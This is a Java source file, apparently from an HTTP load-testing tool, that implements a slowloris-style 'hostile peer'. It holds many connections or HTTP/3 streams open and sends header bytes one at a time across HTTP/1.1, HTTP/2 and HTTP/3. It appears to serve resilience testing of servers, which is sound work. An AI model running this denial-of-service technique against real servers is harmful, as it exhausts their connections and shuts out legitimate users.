/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import io.netty.handler.codec.quic.QuicStreamChannel;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Http3Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.QuicWindows;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RawQuicConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer that sends one octet of a header section at a time (slowloris). */
final class SlowHeads implements HostilePeer {
  private static final Duration INTERVAL = Duration.ofMillis(500);
  private static final int CONNECTIONS = 20;
  private static final int STREAMS = 100;
  private static final int SECTION_LENGTH = 8_192;
  private static final byte[] ONE_OCTET = {'a'};

  @Override
  public String id() {
    return "slow-heads";
  }

  @Override
  public String description() {
    return "Sends one octet of each header section every "
        + INTERVAL.toMillis()
        + " ms, over "
        + CONNECTIONS
        + " connections or, with HTTP/3, "
        + STREAMS
        + " streams for each connection of --connections.";
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return EnumSet.allOf(HttpProtocol.class);
  }

  @Override
  public void attack(AttackSession session) throws IOException, InterruptedException {
    RequestHead head = RequestHead.get(session.target(), FileSize.SMALL.path());
    switch (session.target().protocol()) {
      case H1C, H1 ->
          overTcp(session, (head.lines() + "x: ").getBytes(StandardCharsets.US_ASCII), ONE_OCTET);
      case H2C, H2 -> overTcp(session, http2(head), http2Octet());
      case H3 -> overQuic(session, head);
    }
  }

  private static byte[] http2(RequestHead head) {
    byte[] preface = Http2Frames.preface(Http2Frames.DEFAULT_WINDOW);
    byte[] headers =
        Http2Frames.frame(Http2Frames.HEADERS, Http2Frames.END_STREAM, Streams.id(0), head.hpack());
    return new Octets().octets(preface).octets(headers).toArray();
  }

  /** Returns a CONTINUATION whose octet is an indexed field of the static table. */
  private static byte[] http2Octet() {
    return Http2Frames.frame(Http2Frames.CONTINUATION, 0, Streams.id(0), new byte[] {(byte) 0x90});
  }

  private static void overTcp(AttackSession session, byte[] begun, byte[] octet)
      throws IOException, InterruptedException {
    List<RawConnection> connections = new ArrayList<>();
    try {
      for (int i = 0; i < CONNECTIONS && !session.isOver(); i++) {
        RawConnection connection = session.connect();
        connections.add(connection);
        connection.write(begun);
      }
      while (session.pause(INTERVAL)) {
        for (RawConnection connection : connections) {
          connection.write(octet);
        }
      }
    } finally {
      connections.forEach(RawConnection::close);
    }
  }

  private static void overQuic(AttackSession session, RequestHead head)
      throws IOException, InterruptedException {
    byte[] begun = Http3Frames.unfinishedHeaders(SECTION_LENGTH, head.qpack());
    try (RawQuicConnection connection = session.connectQuic(QuicWindows.LARGE)) {
      List<QuicStreamChannel> streams = new ArrayList<>();
      for (int i = 0; i < STREAMS && !session.isOver(); i++) {
        QuicStreamChannel stream = connection.request(true);
        streams.add(stream);
        connection.write(stream, begun);
      }
      while (session.pause(INTERVAL)) {
        for (QuicStreamChannel stream : streams) {
          connection.writeIfOpen(stream, ONE_OCTET);
        }
      }
    }
  }
}
